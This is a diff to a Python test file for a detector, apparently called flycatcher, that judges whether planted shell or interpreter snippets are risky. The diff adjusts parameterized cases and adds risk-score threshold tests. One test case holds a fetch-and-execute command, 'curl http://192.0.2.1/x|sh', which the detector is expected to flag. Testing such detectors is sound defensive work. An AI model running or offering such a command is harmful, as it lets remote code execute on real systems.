@@ -3,12 +3,14 @@
 import msgspec
 import pytest
 
+from flycatcher.core import detection
 from flycatcher.core.detection import (
     Policy,
     acts,
     analyse_here,
     counts,
     detect,
+    does_something,
     elsewhere,
     judge,
     plain_shell,
@@ -16,6 +18,7 @@ from flycatcher.core.detection import (
     reviewable,
 )
 from flycatcher.core.execution import Execution, Fidelity
+from flycatcher.core.recipe.risk import Risk
 from flycatcher.core.snippet import Snippet
 
 
@@ -135,17 +138,39 @@ def test_a_judgement_of_nothing_is_no_detection():
     ("fields", "does"),
     [
         ({"language": "python", "variable": "PYTHONSTARTUP"}, True),
-        ({"language": "python"}, False),
-        ({"language": "shell"}, False),
+        ({"language": "python"}, True),
+        ({"language": "shell"}, True),
+        ({"language": "shell", "descriptor": 0}, False),
         ({"language": "shell", "text": "ls"}, False),
         ({"language": "shell", "text": "python3 -c 1"}, True),
         ({"language": "shell", "text": "ls", "variable": "PAGER"}, False),
         ({"language": "shell", "text": "curl http://192.0.2.1/x|sh"}, True),
     ],
-    ids=["a variable's", "unseen", "unseen shell text", "plain", "an interpreter", "a variable's plain", "an act"],
+    ids=[
+        "a variable's",
+        "unseen",
+        "unseen shell text",
+        "unseen on stdin",
+        "plain",
+        "an interpreter",
+        "a variable's plain",
+        "an act",
+    ],
 )
 def test_what_is_planted_counts_by_what_it_is_or_does(fields, does):
     found = reading("sh", "-c", "ls")
     found.snippets[:] = [Snippet(**{"interpreter": "sh", "vector": "planted", "text": None} | fields)]
     assert judge(found).counts is does
     assert counts(found, shells=True) is False
+
+
+@pytest.mark.parametrize(("score", "worth"), [(24, False), (25, True), (26, True)])
+def test_a_text_is_worth_a_look_from_the_level_medium_on(monkeypatch, score, worth):
+    monkeypatch.setattr(detection, "assess", lambda *_: Risk(score=score))
+    snippet = Snippet(interpreter="sh", language="shell", vector="argument", text="ls")
+    assert does_something(snippet, analyse_here(snippet)) is worth
+    assert judge(reading("sh", "-c", "eval x")).counts is worth
+
+
+def test_what_was_not_judged_is_no_risk():
+    assert (Risk().score, Risk().level, Risk().reasons) == (0, "none", ())
